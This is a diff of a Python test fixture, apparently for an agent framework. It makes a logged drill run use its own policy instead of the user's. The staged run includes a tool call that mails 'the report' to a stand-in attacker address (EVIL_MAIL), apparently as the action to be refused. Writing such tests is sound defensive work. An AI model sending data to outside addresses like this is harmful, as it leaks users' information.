@@ -25,6 +25,7 @@ from loopwright.journal.redact import Redactor
 from loopwright.journal.stream import seal
 from loopwright.kernel import events as ev
 from loopwright.kernel.values import Spend
+from loopwright.policy.policy import Policy
 from loopwright.policy.values import PlanStep
 from loopwright.views.verify import verify_all
 
@@ -126,8 +127,9 @@ async def _log(lab: Lab) -> _Log:
     """A run with an effect, a refusal and a question in it."""
     root = lab.folder()
     journal = open_journal(root, None, now_ms=lambda: lab.start_ms, redactor=Redactor())
-    own = dataclasses.replace(lab, root=root, journal=journal)
-    stage = own.stage(True, [StandIn(_LOOK), StandIn(_MAIL)], policy=with_tools(lab.policy, _LOOK))
+    # Under a policy of the drill: what is in the log must not depend on the user's.
+    own = dataclasses.replace(lab, root=root, journal=journal, policy=with_tools(Policy(), _LOOK))
+    stage = own.stage(True, [StandIn(_LOOK), StandIn(_MAIL)])
     await stage.call(_LOOK.name, {"path": "notes.txt"})
     await stage.call(_MAIL.name, {"to": EVIL_MAIL, "body": "the report"})
     await stage.call(_LOOK.name, {"path": "more.txt"})
